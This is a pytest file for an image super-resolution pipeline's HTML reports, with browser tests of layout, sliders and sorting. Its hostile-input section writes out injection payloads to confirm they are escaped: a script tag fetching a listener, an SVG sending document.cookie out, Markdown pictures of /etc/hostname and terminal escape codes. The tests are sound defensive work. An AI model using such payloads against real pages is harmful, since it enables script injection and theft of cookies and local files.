"""report.html in a real browser: headless Debian Chromium driven by Selenium (no browser download; skipped with
the reason where chromium, chromedriver or selenium are missing). The pages are made by the real writers from
small real data: a report with a table and a plot, a crop sheet, and `sr --reference` on a small image."""
from __future__ import annotations

import base64
import html
import re
import shutil
import tempfile
from pathlib import Path

import cv2
import numpy as np
import pytest

from pipeline import report
from pipeline.analysis import sheet
from pipeline.htmlreport import Code, Heading, Sheet, Strong, items, para, plot_figure, write_report
from pipeline.report import plots

CHROMIUM, CHROMEDRIVER = "/usr/bin/chromium", "/usr/bin/chromedriver"
SIZES = ((1280, 800), (390, 844))  # a laptop, a phone


def _browser_problem() -> str | None:
    if not Path(CHROMIUM).is_file() or not Path(CHROMEDRIVER).is_file():
        return "Debian's chromium and chromium-driver are not installed (apt-get install chromium chromium-driver)"
    try:
        import selenium  # noqa: F401
    except ImportError:
        return "selenium is not installed (pip install selenium)"
    return None


needs_browser = pytest.mark.skipif(_browser_problem() is not None, reason=str(_browser_problem()))


@pytest.fixture(scope="module")
def browser():
    from selenium import webdriver
    from selenium.webdriver.chrome.service import Service

    profile = tempfile.mkdtemp(prefix="sr-chromium-")
    opts = webdriver.ChromeOptions()
    opts.binary_location = CHROMIUM
    for flag in ("--headless=new", "--no-sandbox", "--disable-gpu", "--disable-background-networking",
                 "--disable-component-update", "--disable-sync", "--no-first-run", "--disable-dev-shm-usage",
                 f"--user-data-dir={profile}"):
        opts.add_argument(flag)
    opts.set_capability("goog:loggingPrefs", {"browser": "ALL"})
    driver = webdriver.Chrome(service=Service(CHROMEDRIVER), options=opts)
    driver.set_page_load_timeout(60)
    yield driver
    driver.quit()
    shutil.rmtree(profile, ignore_errors=True)


def _pictures() -> tuple[np.ndarray, dict, np.ndarray]:
    rng = np.random.default_rng(0)
    hr = (rng.random((96, 96, 3)) * 255).astype(np.uint8)
    lr = cv2.resize(hr, (32, 32), interpolation=cv2.INTER_AREA)
    model = np.clip(hr.astype(int) + rng.integers(-3, 4, hr.shape), 0, 255).astype(np.uint8)
    return lr, {"srcnn": model}, hr


@pytest.fixture(scope="module")
def pages(tmp_path_factory):
    """A report with a table and a plot, and a crop sheet: report.md + report.html."""
    out = tmp_path_factory.mktemp("report")
    plt = plots.plt_()
    fig, ax = plt.subplots(figsize=(4, 3))
    ax.plot([64, 128, 256], [1.0, 3.5, 14.0], marker="o")
    plots.save_fig(fig, out / "latency.png")
    plt.close(fig)
    lr, outputs, hr = _pictures()
    png = sheet.write(out / "sheet-srcnn-x3.png", lr, outputs, hr, scale=3, side=40, bicubic=lambda a, size: cv2.resize(
        a, size[::-1], interpolation=cv2.INTER_CUBIC))
    blocks = [Heading("Bench", 1), para("Machine: a CPU. ", Code("srcnn"), " ", Strong("x3"), "."),
              report.table(["model", "median ms", "roofline"], [["srcnn", 14.0, "9.9 %"], ["srcnn-x3", 3.5, "41.0 %"]]),
              items("one", "two"), plot_figure("latency", out / "latency.png"), Sheet("srcnn x3", png)]
    md, page = write_report(out / "report.md", blocks)
    return {"report": page, "md": md}


def test_the_page_and_the_markdown_say_the_same(pages):
    text, md = pages["report"].read_text(), pages["md"].read_text()
    assert md.startswith("# Bench\n\nMachine: a CPU. `srcnn` **x3**.\n\n| model | median ms | roofline |\n")
    assert report.parse_table(md, "model") == [{"model": "srcnn", "median ms": "14.0", "roofline": "9.9 %"},
                                               {"model": "srcnn-x3", "median ms": "3.5", "roofline": "41.0 %"}]
    assert "- one\n- two" in md and "![latency](latency.png)" in md
    # the plot as a picture (its SVG drawing in a data: URI), nothing linked
    assert 'src="data:image/svg+xml;base64,' in text and "latency.png" not in text and "<svg" not in text
    assert not re.search(r'(src|href)\s*=\s*"(https?:)?//', text) and "@import" not in text  # nothing fetched
    # 2 crops x (bicubic vs srcnn, then bicubic and srcnn each against the ground truth), under the sheet's heading
    assert text.count('type="range"') == 6 and "<h3>srcnn x3</h3>" in text
    assert "<code>srcnn</code>" in text and "<strong>x3</strong>" in text and "Left out" not in text
    assert re.search(r"<meta http-equiv=\"Content-Security-Policy\" content=\"default-src 'none'; img-src data:; "
                     r"style-src 'sha256-[^']+'; script-src 'sha256-[^']+';", html.unescape(text))


@needs_browser
def test_report_in_a_browser(pages, browser, tmp_path):
    from selenium.webdriver.common.action_chains import ActionChains
    from selenium.webdriver.common.by import By
    from selenium.webdriver.common.keys import Keys

    for width, height in SIZES:
        browser.set_window_size(width, height)
        browser.get(pages["report"].as_uri())
        assert browser.execute_script("return document.readyState") == "complete"
        images = browser.find_elements(By.TAG_NAME, "img")
        assert images and all(browser.execute_script("return arguments[0].naturalWidth", i) > 0 for i in images)
        wide = browser.execute_script(
            "return document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide <= 0, f"horizontal scroll of {wide} px at {width}x{height}"
        browser.save_screenshot(str(tmp_path / f"report-{width}.png"))
    slider = browser.find_element(By.CSS_SELECTOR, ".slider input[type=range]")
    before = browser.find_element(By.CSS_SELECTOR, ".slider img.before")
    start = before.value_of_css_property("clip-path")
    browser.execute_script("arguments[0].scrollIntoView()", slider)
    slider.send_keys(Keys.ARROW_RIGHT * 10)
    assert int(slider.get_attribute("value")) == 60 and before.value_of_css_property("clip-path") != start
    ActionChains(browser).click_and_hold(slider).move_by_offset(-slider.size["width"] // 3, 0).release().perform()
    assert int(slider.get_attribute("value")) < 40  # dragged left
    diff = browser.find_element(By.CSS_SELECTOR, ".slider input.diff")
    picture = before.get_attribute("src")
    diff.click()
    assert before.get_attribute("src") != picture  # the amplified difference
    header = browser.find_element(By.CSS_SELECTOR, "th")
    header.click()
    first = browser.find_element(By.CSS_SELECTOR, "tbody tr td").text
    header.click()
    assert browser.find_element(By.CSS_SELECTOR, "tbody tr td").text != first  # sorted both ways
    errors = [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]
    assert not errors, errors
    assert cv2.imread(str(tmp_path / "report-390.png")) is not None


@needs_browser
def test_sr_reference_page_in_a_browser(browser, tmp_path, monkeypatch):
    from selenium.webdriver.common.by import By

    from pipeline.cli import main

    lr, _, hr = _pictures()
    (tmp_path / "lr").mkdir()
    (tmp_path / "hr").mkdir()
    cv2.imwrite(str(tmp_path / "lr" / "a.png"), lr)
    cv2.imwrite(str(tmp_path / "hr" / "a.png"), hr)
    monkeypatch.chdir(tmp_path)  # paths as a user types them: relative to the working directory
    assert main(["sr", "lr", "out", "--model", "srcnn", "--scale", "3", "--backend", "ort", "--reference", "hr",
                 "--quiet"]) == 0
    page = tmp_path / "out" / "reference-sheet.html"
    assert "Left out" not in page.read_text()
    browser.set_window_size(*SIZES[1])
    browser.get(page.as_uri())
    labels = [s.get_attribute("aria-label") for s in browser.find_elements(By.CSS_SELECTOR, "input[type=range]")]
    assert labels and "bicubic on the left, srcnn on the right" in labels[0]  # the before/after an SR user wants
    assert any("bicubic on the left, ground truth on the right" in label for label in labels)
    assert any("srcnn on the left, ground truth on the right" in label for label in labels)
    assert not [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]


@needs_browser
def test_bench_page_from_the_bench_writer(browser, tmp_path):
    """The real bench writer's page: plots inline, speed-ups read as ratio and change and sort by the ratio, the
    machine facts first, a 20-column table that scrolls in its box instead of the page on a phone."""
    from selenium.webdriver.common.by import By

    from tests.test_report import _bench_doc

    doc = _bench_doc()
    page = report.write_bench(doc, tmp_path)["html"]
    for width, height in SIZES:
        browser.set_window_size(width, height)
        browser.get(page.as_uri())
        wide = browser.execute_script(
            "return document.documentElement.scrollWidth - document.documentElement.clientWidth")
        assert wide <= 0, f"horizontal scroll of {wide} px at {width}x{height}"
    plots = [i.get_attribute("src") for i in browser.find_elements(By.CSS_SELECTOR, "figure img")]
    assert len(plots) == len(doc["plots"]) > 0 and all(p.startswith("data:image/svg+xml;base64,") for p in plots)
    text = browser.find_element(By.TAG_NAME, "body").text
    assert text.index("CPU:") < text.index("Results")  # the machine facts at the top
    table = next(t for t in browser.find_elements(By.CSS_SELECTOR, "table")
                 if "speed-up" in [h.text for h in t.find_elements(By.TAG_NAME, "th")])
    headers = [h.text for h in table.find_elements(By.TAG_NAME, "th")]
    col = headers.index("speed-up")
    table.find_elements(By.TAG_NAME, "th")[col].click()
    cells = [r.find_elements(By.TAG_NAME, "td")[col].text for r in table.find_elements(By.CSS_SELECTOR, "tbody tr")]
    ratios = [float(c.split("x")[0]) for c in cells]
    assert all(re.fullmatch(r"\d+\.\d\dx \([+-]\d+ %\)", c) for c in cells), cells
    assert ratios == sorted(ratios) and ratios[0] < ratios[-1]
    assert not [e for e in browser.get_log("browser") if e["level"] == "SEVERE"]


# -- hostile inputs (issue 39): strings from users' files are text, pictures come only from the run's own files ----
class _Listener:
    """A loopback HTTP listener (127.0.0.1 only) that records every request a page would make."""

    def __init__(self):
        import http.server
        import threading

        hits = self.hits = []

        class Handler(http.server.BaseHTTPRequestHandler):
            def do_GET(self):  # noqa: N802 (the http.server name)
                hits.append(self.path)
                self.send_response(204)
                self.end_headers()

            do_POST = do_GET  # noqa: N815

            def log_message(self, *args):
                pass

        self.server = http.server.ThreadingHTTPServer(("127.0.0.1", 0), Handler)
        self.url = f"http://127.0.0.1:{self.server.server_address[1]}"
        threading.Thread(target=self.server.serve_forever, daemon=True).start()

    def close(self):
        self.server.shutdown()
        self.server.server_close()


@pytest.fixture(scope="module")
def listener():
    server = _Listener()
    yield server
    server.close()


def _evil_name(url: str) -> str:
    """A metadata `model` string that tries every trick: a Markdown picture of a local file, raw HTML that loads
    and scripts, terminal escapes (OSC 52 clipboard, colour, CR)."""
    return (f"evil\n![x](/etc/hostname)\n![y](../outside/canary.txt)\n<img src=\"{url}/img\">"
            f"<script>document.title='pwned';fetch('{url}/script')</script>"
            "\x1b]52;c;aGk=\x07\x1b[31mred\rOK")


def _scripted_svg(url: str) -> str:
    return ('<svg xmlns="http://www.w3.org/2000/svg" width="10" height="10" onload="document.title=\'pwned\'">'
            f"<script>document.title='pwned';fetch('{url}/svg?'+document.cookie)</script>"
            '<rect width="10" height="10" fill="red"/></svg>')


@pytest.fixture(scope="module")
def hostile(tmp_path_factory, listener):
    """`sr --reference`, `compare --onnx` and `bench --onnx` on a file whose metadata `model` is _evil_name, and a
    report whose plot has a scripted SVG twin and whose figures name a file outside the folder and a link to it."""
    import onnx

    from pipeline.cli import main
    from pipeline.export.cached import onnx_for

    root = tmp_path_factory.mktemp("hostile")
    (root / "outside").mkdir()
    canary = root / "outside" / "canary.txt"
    canary.write_text("CANARY-" + "7f3a9c" * 8)
    src = onnx_for("srcnn")
    (root / "model").mkdir()
    for f in src.parent.glob(src.stem + "*"):
        shutil.copy(f, root / "model" / f.name)
    path = root / "model" / src.name
    model = onnx.load(str(path), load_external_data=False)
    props = {p.key: p.value for p in model.metadata_props} | {"model": _evil_name(listener.url)}
    del model.metadata_props[:]
    for k, v in props.items():
        model.metadata_props.add(key=k, value=v)
    onnx.save(model, str(path))
    lr, _, hr = _pictures()
    for name, img in (("lr", lr), ("hr", hr)):
        (root / name).mkdir()
        cv2.imwrite(str(root / name / "a.png"), img)
    runs = {}
    for key, argv in {"sr": ["sr", root / "lr", root / "sr", "--onnx", path, "--reference", root / "hr"],
                      "compare": ["compare", "--onnx", path, "--output", root / "compare"],
                      "bench": ["bench", "--onnx", path, "--quick", "--sizes", "32", "--iters", "2", "--time-budget",
                                "0.2", "--output", root / "bench"]}.items():
        runs[key] = _run(main, argv)
    return {"root": root, "canary": canary, "runs": runs, "listener": listener,
            "pages": {"sr": root / "sr" / "reference-sheet.html", "compare": root / "compare" / "report.html",
                      "bench": root / "bench" / "report.html", "figures": _figure_page(root, canary, listener.url)}}


def _run(main, argv) -> tuple[int, str]:
    """A CLI run's exit code and everything it printed (stdout and stderr, as the terminal would get them)."""
    import contextlib
    import io
    import sys

    out = io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(out):
        code = main([str(a) for a in argv])
        assert sys.stdout is out and sys.stderr is out  # the CLI's escaping streams are gone after the run
    return code, out.getvalue()


def _figure_page(root: Path, canary: Path, url: str) -> Path:
    """A report whose plot has a scripted .svg twin, plus figures naming a file outside the folder (absolute and
    by ..) and a link inside the folder that leads to it."""
    out = root / "figures"
    out.mkdir()
    plt = plots.plt_()
    fig, ax = plt.subplots(figsize=(2, 2))
    ax.plot([1, 2], [1, 2])
    plots.save_fig(fig, out / "plot.png")
    plt.close(fig)
    (out / "plot.svg").write_text(_scripted_svg(url))
    (out / "link.png").symlink_to(canary)
    (out / "link.svg").symlink_to(canary)
    (out / "inlink.png").symlink_to(out / "plot.png")  # inside the folder, but a link: not followed either
    from pipeline.htmlreport import Figure

    blocks = [Heading("Figures", 1), para(_evil_name(url)), plot_figure("plot", out / "plot.png"),
              Figure("absolute", canary), Figure("dotdot", out / ".." / "outside" / "canary.txt"),
              Figure("etc", Path("/etc/hostname")), plot_figure("link", out / "link.png"),
              Figure("inlink", out / "inlink.png")]
    return write_report(out / "report.md", blocks)[1]


def test_hostile_runs_succeed_and_write_their_pages(hostile):
    for key, (code, printed) in hostile["runs"].items():
        assert code == 0, (key, printed)
        assert hostile["pages"][key].is_file(), key
    assert "html: " in hostile["runs"]["compare"][1]  # compare --onnx writes and names its page


def test_terminal_shows_escapes_escaped(hostile):
    for key, (_, printed) in hostile["runs"].items():
        assert "\x1b" not in printed and "\r" not in printed and "\x07" not in printed, key
        assert "\\x1b]52;c;aGk=\\x07\\x1b[31mred\\rOK" in printed, key  # the name is still there, readable
    # the sr stage's own lines keep a name on its line: its newlines are escaped too
    assert "sr: evil\\n![x](/etc/hostname)" in hostile["runs"]["sr"][1]


def test_no_local_file_and_no_foreign_markup_in_any_page(hostile):
    canary = hostile["canary"].read_bytes()
    hostname = Path("/etc/hostname").read_bytes() if Path("/etc/hostname").is_file() else b""
    for key, page in hostile["pages"].items():
        text = page.read_text()
        assert canary.decode() not in text and base64.b64encode(canary).decode() not in text, key
        if len(hostname) >= 8:  # shorter ones could occur anywhere by chance
            assert base64.b64encode(hostname).decode() not in text, key
        assert "<script>document.title" not in text and "<img src=\"http" not in text and "<svg" not in text, key
        assert "&lt;script&gt;document.title=&#39;pwned&#39;" in text, key  # the name is shown, as text
        srcs = re.findall(r'\ssrc="([^"]*)"', text)
        assert all(s.startswith("data:image/") for s in srcs), (key, [s[:40] for s in srcs])
    figures = hostile["pages"]["figures"].read_text()
    assert "Left out of this page: absolute (outside the report&#39;s folder), dotdot (outside the report&#39;s " \
           "folder), etc (outside the report&#39;s folder), link (outside the report&#39;s folder), inlink (a link)" \
        in figures
    assert figures.count('<img src="data:image/svg+xml;base64,') == 1  # the scripted drawing, as a picture only


@needs_browser
def test_hostile_pages_run_nothing_and_load_nothing_in_a_browser(hostile, browser):
    from selenium.webdriver.common.by import By

    for key, page in hostile["pages"].items():
        browser.get(page.as_uri())
        title = browser.title  # the page's heading: the name, scripts and all, as text
        assert title and title != "pwned", key
        # let anything a page might have started finish: a 300 ms timer inside the page, then look
        browser.execute_async_script("var done = arguments[0]; setTimeout(done, 300);")
        assert browser.title == title and browser.execute_script("return document.title") == title, key
        assert len(browser.find_elements(By.TAG_NAME, "script")) == 1, key  # the page's own
    assert hostile["listener"].hits == []


def test_sliders_grouped_per_sheet_and_lookalike_pairs_folded(tmp_path):
    """Issue 42 item 21: a heading per sheet; a backend whose crops match an output already shown to within
    VISIBLE_LEVELS sits folded under a <details> element instead of adding sliders that all look the same."""
    from pipeline.htmlreport.sliders import VISIBLE_LEVELS

    lr, outputs, hr = _pictures()
    close = np.clip(outputs["srcnn"].astype(int) + 1, 0, 255).astype(np.uint8)  # 1 level off ort's: looks the same
    sheets = []
    for name in ("a", "b"):
        png = sheet.write(tmp_path / f"sheet-{name}.png", lr, {"ort fp32": outputs["srcnn"], "openvino fp32": close},
                          hr, scale=3, side=40, bicubic=lambda a, size: cv2.resize(a, size[::-1],
                                                                                   interpolation=cv2.INTER_CUBIC))
        sheets.append(Sheet(f"model {name} x3", png))
    _, page = write_report(tmp_path / "report.md", [Heading("Compare", 1), *sheets])
    text = page.read_text()
    assert text.count("<h3>") == 2 and "<h3>model a x3</h3>" in text and "<h3>model b x3</h3>" in text
    assert VISIBLE_LEVELS >= 1
    for part in text.split("<h3>")[1:]:
        shown, _, folded = part.partition('<details class="alike">')
        # per crop (2): bicubic vs ort, then bicubic and ort against the ground truth; openvino's pair folded
        assert shown.count('type="range"') == 6 and "openvino fp32 on the left" not in shown
        assert folded.count('type="range"') == 2 and folded.count("openvino fp32 on the left, ground truth") == 2
        assert "2 more sliders that look the same as one above" in folded


def _key_columns_hidden(browser, page: Path, keys: set[str]) -> list[str]:
    """At 1280 px, in each table that has all the key columns, those whose headers lie beyond the table box's right
    edge (behind its horizontal scroll)."""
    browser.set_window_size(*SIZES[0])
    browser.get(page.as_uri())
    return browser.execute_script("""
        const keys = arguments[0], hidden = [];
        let tables = 0;
        for (const table of document.querySelectorAll('table')) {
            const ths = [...table.querySelectorAll('th')].filter(th => keys.includes(th.textContent.trim()));
            if (ths.length < keys.length) continue;
            tables += 1;
            const right = (table.closest('.table-box') || document.documentElement).getBoundingClientRect().right;
            for (const th of ths) if (th.getBoundingClientRect().right > right + 0.5) hidden.push(th.textContent);
        }
        return tables ? hidden : ['no table with ' + keys.join(', ')];""", sorted(keys))


@needs_browser
def test_key_columns_are_in_view_at_1280_px(browser, tmp_path):
    """compare's criterion and the bench video table's "vs fp32" and "floor" were behind the table's horizontal
    scroll at 1280 px (issue 59): the verdict's columns come first."""
    from pipeline.analysis.compare import error_stats, verdict
    from tests.test_report import _bench_doc

    ref = np.zeros((1, 3, 8, 8), np.float32) + 0.5
    rows = []
    for backend, prec, err in (("ort-sr-kernels", "fp32", 1e-6), ("openvino", "int8", 3e-2), ("ort", "fp16", 1e-3)):
        s = error_stats(ref + err, ref)
        ok, crit = verdict(s, prec)
        rows.append({"backend": backend, "precision": prec, "scale": 3.0, "status": "pass" if ok else "fail",
                     "criterion": crit + " and fidelity >= 40 dB (held-out)", **s,
                     "quality": {"psnr_loss_db": 0.0794, "ssim_loss": 0.0091, "budget_db": 0.1,
                                 "within_budget": False, "why_not": [], "images": 4},
                     "fidelity": {"mean_db": 48.1, "worst_db": 45.2}})
    doc = {"kind": "compare", "environment": report.environment(),
           "models": [{"model": "srcnn-x3-local", "input_size": 96, "images": ["a"], "scales": [3.0],
                       "reference": "torch", "rows": rows,
                       "tolerances": {"fp32_max_abs": 1e-4, "fp16_psnr_db": 50.0, "rel_floor": 1e-3}}]}
    compare_page = report.write_compare(doc, tmp_path / "compare")["html"]
    assert not _key_columns_hidden(browser, compare_page, {"criterion", "status"})
    bench = _bench_doc()
    bench["video"] = [{"model": "srcnn-x3", "backend": "ort-sr-kernels", "precision": "int8", "size": "720p",
                       "input": [1280, 720], "output": [3840, 2160], "scale": 3.0, "frames": 48, "tiles": 12,
                       "fps": 2.0, "inference_fps": 3.0, "of_inference": 0.66, "preset": "veryfast",
                       "encoder_share": 0.12, "vs_fp32": 2.5, "floor": 2.0}]
    bench_page = report.write_bench(bench, tmp_path / "bench")["html"]
    assert not _key_columns_hidden(browser, bench_page, {"vs fp32", "floor", "fps"})
